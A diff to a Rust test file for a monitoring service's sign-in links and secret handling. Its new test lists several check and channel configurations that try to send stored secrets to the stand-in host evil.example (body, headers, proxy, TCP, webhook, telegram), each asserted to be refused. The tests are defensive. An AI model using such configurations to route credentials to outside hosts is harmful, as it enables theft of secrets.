@@ -15,12 +15,25 @@ async fn a_sign_in_link_works_once_and_its_session_only_looks() {
     let link = bench.post("/api/v1/sign-in-links", &Value::Null).await.json();
     let url = link["url"].as_str().unwrap();
     let path = url.strip_prefix("https://console.example").unwrap();
-    let first = bench.send(NETWORK, "GET", path, &[], "").await;
+    // Programs that look at links use none up: the button does, sent by the page itself.
+    for method in ["HEAD", "GET", "GET"] {
+        let looked = bench.send(NETWORK, method, path, &[], "").await;
+        assert_eq!((looked.status, looked.headers.get(header::SET_COOKIE)), (StatusCode::OK, None));
+    }
+    let page = bench.send(NETWORK, "GET", path, &[("accept-language", "fr")], "").await.text;
+    let token = path.split_once("token=").unwrap().1;
+    assert!(page.contains(&format!("name=\"token\" value=\"{token}\"")) && page.contains("par le bouton"), "{page}");
+    let body = format!("token={token}");
+    let form = ("content-type", "application/x-www-form-urlencoded");
+    let foreign = bench.send(NETWORK, "POST", "/sign-in", &[form, ("sec-fetch-site", "cross-site")], &body).await;
+    assert_eq!((foreign.status, foreign.headers.get(header::SET_COOKIE)), (StatusCode::FORBIDDEN, None));
+    let first = bench.open_link(NETWORK, token).await;
     assert_eq!((first.status, first.headers[header::LOCATION].to_str().unwrap()), (StatusCode::SEE_OTHER, "/"));
     let set = first.headers[header::SET_COOKIE].to_str().unwrap();
     for part in ["__Host-sitepulse_session=", "; HttpOnly", "; SameSite=Strict", "; Secure", "; Path=/"] {
         assert!(set.contains(part), "{set}");
     }
+    assert_eq!(bench.open_link(NETWORK, token).await.status, StatusCode::FORBIDDEN);
     assert_eq!(bench.send(NETWORK, "GET", path, &[], "").await.status, StatusCode::FORBIDDEN);
     let cookie = ("cookie", set.split(';').next().unwrap());
     let page = bench.send(NETWORK, "GET", "/", &[cookie], "").await;
@@ -72,7 +85,7 @@ async fn a_secret_is_set_listed_and_removed_and_never_given_back() {
     let mut target = HttpTarget::get("http://127.0.0.1:9/");
     target.auth = Some(Auth::Bearer(SecretText("secret:ops.token".into())));
     with_secret.kind = CheckKind::Http(Box::new(target));
-    let plan = bench.app.apply(vec![with_secret], options(), clock::now()).await.unwrap();
+    let plan = bench.app.apply_as(Access::Admin, vec![with_secret], options(), clock::now()).await.unwrap();
     assert!(plan.warnings[0].contains("secret set ops.token"), "{:?}", plan.warnings);
 
     let set = put("ops.token", "hunter2-correct\n").await;
@@ -110,4 +123,62 @@ async fn a_secret_is_set_listed_and_removed_and_never_given_back() {
     assert_eq!(remove("/api/v1/secrets/ops.token?force=true").await.status, StatusCode::NO_CONTENT);
     assert_eq!(remove("/api/v1/secrets/ops.token").await.status, StatusCode::NOT_FOUND);
     assert_eq!(bench.get("/api/v1/secrets/ops.token").await.status, StatusCode::NOT_FOUND);
+}
+
+/// Whoever says where a secret goes can read it there.
+#[tokio::test]
+async fn who_edits_uses_a_secret_where_it_goes_already_and_nowhere_else() {
+    let bench = Bench::new();
+    let edit = format!("Bearer {}", bench.token(CredentialKind::ApiToken, Access::Edit).await);
+    let apply = async |text: &str, dry_run: bool| {
+        let body = json!({"files": [{"name": "f.toml", "text": text}], "dry_run": dry_run}).to_string();
+        bench.send(NETWORK, "POST", "/api/v1/apply", &[("authorization", &edit)], &body).await
+    };
+    let check = |id: &str, more: &str| format!("[[check]]\nid = \"{id}\"\ninterval = \"60s\"\n{more}\n\n");
+    let shop = "kind = \"http\"\nurl = \"https://shop.example/a\"\nauth = { bearer = \"secret:shop\" }";
+    let channel = |id: &str, more: &str| format!("[[channel]]\nid = \"{id}\"\n{more}\n\n");
+    let hook = "kind = \"webhook\"\nurl = \"https://ops.example/hook\"\nsecret = \"secret:hook\"";
+    // What was never led anywhere by an admin goes nowhere, also where nobody has set it yet.
+    assert_eq!(apply(&check("shop", shop), false).await.status, StatusCode::FORBIDDEN);
+    let admins = check("shop", shop) + &channel("ops", hook);
+    assert_eq!(bench.apply(&admins, json!({})).await.status, StatusCode::OK);
+
+    let elsewhere = [
+        check("thief", "kind = \"http\"\nurl = \"https://evil.example/\"\nbody = \"secret:shop\"\nmethod = \"POST\""),
+        check("thief", "kind = \"http\"\nurl = \"https://evil.example/\"\nheaders = { x-a = \"secret:hook\" }"),
+        // Another port or no encryption is another listener.
+        check("thief", "kind = \"http\"\nurl = \"https://shop.example:8443/\"\nauth = { bearer = \"secret:shop\" }"),
+        check("thief", "kind = \"http\"\nurl = \"http://shop.example/\"\nauth = { bearer = \"secret:shop\" }"),
+        check("thief", &format!("{shop}\nproxy = \"http://evil.example:3128\"")),
+        check("thief", "kind = \"tcp\"\naddress = \"evil.example:9\"\nsend = \"secret:shop\""),
+        check("shop", &shop.replace("shop.example", "evil.example")),
+        check(
+            "thief",
+            "kind = \"flow\"\nsteps = [{ name = \"a\", url = \"https://shop.example/\", headers = { x-a = \"secret:shop\" } }, \
+             { name = \"b\", url = \"https://evil.example/\" }]",
+        ),
+        channel("thief", "kind = \"webhook\"\nurl = \"https://evil.example/\"\nsecret = \"secret:hook\""),
+        channel("thief", "kind = \"webhook\"\nurl = \"secret:shop\""),
+        channel("ops", &hook.replace("ops.example", "evil.example")),
+        channel("thief", "kind = \"telegram\"\ntoken = \"secret:shop\"\nchat = \"1\""),
+    ];
+    for text in &elsewhere {
+        for dry_run in [true, false] {
+            let refused = apply(text, dry_run).await;
+            assert_eq!(refused.status, StatusCode::FORBIDDEN, "{text}{}", refused.text);
+            assert!(refused.text.contains("only an admin may lead a secret to a new place"), "{}", refused.text);
+        }
+    }
+    let one = json!({"id": "thief", "kind": "http", "url": "https://evil.example/", "interval": "60s", "auth": {"bearer": "secret:shop"}});
+    let headers = [("authorization", edit.as_str())];
+    let put = bench.send(NETWORK, "PUT", "/api/v1/definitions/check/thief", &headers, &one.to_string()).await;
+    assert_eq!(put.status, StatusCode::FORBIDDEN, "{}", put.text);
+
+    // Where it goes already it may be used by others too, in other ways.
+    let cart = "kind = \"http\"\nurl = \"https://SHOP.example:443/cart\"\nmethod = \"POST\"\nbody = \"secret:shop\"";
+    let same = check("cart", cart) + &check("shop", &shop.replace("/a", "/b")) + &channel("more", hook);
+    let taken = apply(&same, false).await;
+    assert_eq!(taken.status, StatusCode::OK, "{}", taken.text);
+    // An admin leads it on.
+    assert_eq!(bench.apply(&elsewhere[0], json!({})).await.status, StatusCode::OK);
 }
